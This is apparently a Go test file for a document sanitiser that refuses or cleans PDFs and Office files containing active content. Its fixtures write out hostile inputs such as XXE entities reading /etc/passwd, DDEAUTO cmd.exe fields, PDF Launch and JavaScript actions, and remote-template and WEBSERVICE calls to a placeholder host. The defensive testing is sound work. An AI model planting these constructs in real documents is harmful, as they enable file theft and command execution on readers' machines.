package evidence_test

import (
	"bytes"
	"strings"
	"testing"

	"probity/evidence"
	"probity/evidence/evidencetest"
)

const (
	relations = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	typed     = `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	away      = `" Target="https://canary.example/a" TargetMode="External"/></Relationships>`
	foreign   = `<!DOCTYPE w [<!ENTITY canary SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "https://canary.example/x">]>`
	wordNS    = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>`
)

// TestTrapsInPapersAndOfficeFiles holds what docs/security.md says of each: refused,
// taken with a copy in which it is gone, or taken without a copy, so that only who
// works on the case is given it and is warned.
func TestTrapsInPapersAndOfficeFiles(t *testing.T) {
	t.Parallel()
	paper := func(catalog, page string) []byte {
		return evidencetest.PDF("<</Type/Catalog/Pages 2 0 R"+catalog+">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]"+page+">>")
	}
	link := func(action string) []byte {
		return paper("", "/Annots[<</Type/Annot/Subtype/Link/Rect[1 1 9 9]/A"+action+">>]")
	}
	office := func(kind, name, part string) []byte {
		return evidencetest.Office(kind, map[string]string{name: part})
	}
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 1024)
	for what, c := range map[string]struct {
		name    string
		content []byte
		refused string // code
		gone    string // not in the copy, though in the file
		stays   string
	}{
		"a PDF that runs a script":          {name: "a.pdf", content: paper("/OpenAction<</S/JavaScript/JS(canary)>>", ""), gone: "canary"},
		"a PDF that starts a program":       {name: "a.pdf", content: paper("/OpenAction<</S/Launch/F(canary.exe)>>", ""), gone: "canary.exe"},
		"one by a link":                     {name: "a.pdf", content: link("<</S/Launch/F(canary.exe)>>"), gone: "canary.exe"},
		"one behind a link that leads away": {name: "a.pdf", content: link("<</S/URI/URI(https://example.org/x)/Next<</S/Launch/F(canary.exe)>>>>"), gone: "canary.exe", stays: "example.org"},
		"a PDF that leads into a machine":   {name: "a.pdf", content: link("<</S/URI/URI(file:///canary)>>"), gone: "canary"},
		"a PDF that sends a form":           {name: "a.pdf", content: link("<</S/SubmitForm/F<</FS/URL/F(https://canary.example)>>>>"), gone: "canary"},
		"a PDF when a page is turned to":    {name: "a.pdf", content: paper("", "/AA<</O<</S/URI/URI(https://canary.example)>>>>"), gone: "canary"},
		"a PDF with files":                  {name: "a.pdf", content: evidencetest.PDFWithTraces(), gone: "attached by"},
		"a letter with a template far away": {name: "a.docx", content: office("docx", "word/_rels/settings.xml.rels", relations+typed+"attachedTemplate"+away), gone: "canary"},
		"a picture far away":                {name: "a.docx", content: office("docx", "word/_rels/document.xml.rels", relations+typed+"image"+away), gone: "canary"},
		"an object far away":                {name: "a.docx", content: office("docx", "word/_rels/document.xml.rels", relations+typed+"oleObject"+away), gone: "canary"},
		"a frame far away":                  {name: "a.docx", content: office("docx", "word/_rels/webSettings.xml.rels", relations+typed+"frame"+away), gone: "canary"},
		"a link to follow":                  {name: "a.docx", content: office("docx", "word/_rels/document.xml.rels", relations+typed+"hyperlink"+away), stays: "canary.example"},
		"slides with a film far away":       {name: "a.pptx", content: office("pptx", "ppt/slides/_rels/slide1.xml.rels", relations+typed+"video"+away), gone: "canary"},
		"slides with an author":             {name: "a.pptx", content: evidencetest.Office("pptx", map[string]string{"ppt/commentAuthors.xml": `<p:cmAuthorLst xmlns:p="x"><p:cmAuthor id="0" name="canary" initials="C"/></p:cmAuthorLst>`, "docProps/core.xml": "<x>canary</x>"}), gone: "canary"},
		"a table that reads another":        {name: "a.xlsx", content: office("xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", relations+typed+"externalLinkPath"+away), gone: "canary"},
		"a table that starts a program":     {name: "a.xlsx", content: office("xlsx", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c canary"/></externalLink>`), refused: evidence.NotCleaned},
		"a table that asks the web":         {name: "a.xlsx", content: office("xlsx", "xl/worksheets/sheet1.xml", `<worksheet><c><f>WEBSERVICE("https://canary")</f></c></worksheet>`), refused: evidence.NotCleaned},
		"a table with a connection":         {name: "a.xlsx", content: office("xlsx", "xl/connections.xml", `<connections><connection><webPr url="https://canary"/></connection></connections>`), refused: evidence.NotCleaned},
		"a field that starts a program":     {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\cmd.exe</w:instrText></w:r></w:p></w:document>`), refused: evidence.NotCleaned},
		"a field that fetches a picture":    {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://canary&quot; "/></w:p></w:document>`), refused: evidence.NotCleaned},
		"one written as numbers":            {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`<w:fldChar/><w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>&#68;D</w:instrText><w:instrText>EAUTO x</w:instrText></w:p></w:document>`), refused: evidence.NotCleaned},
		"a field that leads to a link":      {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`<w:instrText>HYPERLINK "https://example.org/dde/link"</w:instrText></w:p></w:document>`), stays: "dde/link"},
		"a part that is not in UTF-8":       {name: "a.docx", content: office("docx", "word/document.xml", "\xff\xfe<\x00a\x00 \x00b\x00=\x00'\x00c\x00'\x00/\x00>\x00"), refused: evidence.NotCleaned},
		"words from elsewhere":              {name: "a.docx", content: office("docx", "word/document.xml", foreign+wordNS+`<w:t>&canary;</w:t></w:p></w:document>`), refused: evidence.NotCleaned},
		"the same behind a long remark":     {name: "a.docx", content: office("docx", "word/document.xml", `<?xml version="1.0"?><!--`+strings.Repeat(" long ", 1000)+"-->"+foreign+wordNS+`<w:t>&canary;</w:t></w:p></w:document>`), refused: evidence.NotCleaned},
		"a field behind a word of its own":  {name: "a.docx", content: office("docx", "word/document.xml", `<!--`+strings.Repeat(" long ", 1000)+`--><!DOCTYPE w [<!ENTITY a "DDEAUTO c:\\cmd.exe">]>`+wordNS+`<w:instrText>&a;</w:instrText></w:p></w:document>`), refused: evidence.NotCleaned},
		"a word of its own after the end":   {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`</w:p></w:document><!ENTITY canary SYSTEM "https://canary.example/x">`), refused: evidence.NotCleaned},
		"a field that counts pages":         {name: "a.docx", content: office("docx", "word/document.xml", wordNS+`<w:fldSimple w:instr=" PAGE "/></w:p></w:document>`), stays: "PAGE"},
		"an object in a letter":             {name: "a.docx", content: office("docx", "word/embeddings/oleObject1.bin", ole), refused: evidence.NotCleaned},
		"an object in slides":               {name: "a.pptx", content: office("pptx", "ppt/embeddings/oleObject1.bin", ole), refused: evidence.NotCleaned},
		"a table in slides":                 {name: "a.pptx", content: office("pptx", "ppt/embeddings/sheet.xlsx", string(evidencetest.TableWithAuthor())), gone: evidencetest.Author},
		"a program in a letter":             {name: "a.docx", content: office("docx", "word/embeddings/x.bin", "MZ\x90\x00"), refused: evidence.Executable},
		"macros in slides":                  {name: "a.pptx", content: office("pptx", "ppt/vbaProject.bin", "x"), refused: evidence.Macros},
		"a control in a table":              {name: "a.xlsx", content: office("xlsx", "xl/activeX/activeX1.xml", "<x/>"), refused: evidence.Macros},
		"an open text with a picture far away": {name: "a.odt", content: evidencetest.Zip(evidencetest.Entry{Name: "mimetype", Body: []byte("application/vnd.oasis.opendocument.text")},
			evidencetest.Entry{Name: "content.xml", Body: []byte(`<office:document-content xmlns:office="o" xmlns:draw="d" xmlns:text="t" xmlns:xlink="x"><draw:image xlink:href="https://canary.example/p.png"/><text:a xlink:href="https://example.org"/></office:document-content>`)}), gone: "canary", stays: "example.org"},
	} {
		k, err := through(c.name, "", c.content, 4096)
		var made *evidence.Copy
		if err == nil {
			if c.refused != "" && c.refused != evidence.NotCleaned {
				t.Errorf("%s: taken", what)
			}
			made, err = evidence.Clean(bytes.NewReader(c.content), int64(len(c.content)), k, evidence.Limits{})
		}
		if codeOf(err) != c.refused {
			t.Errorf("%s: %v, not %q", what, err, c.refused)
		}
		if err != nil {
			continue
		}
		before, after := string(evidencetest.Unpacked(c.content)), string(evidencetest.Unpacked(made.Content))
		if c.gone != "" && (!strings.Contains(before, c.gone) || strings.Contains(after, c.gone)) {
			t.Errorf("%s: %q is still in the copy, or was never there", what, c.gone)
		}
		if !strings.Contains(after, c.stays) {
			t.Errorf("%s: the copy lost %q", what, c.stays)
		}
	}
}
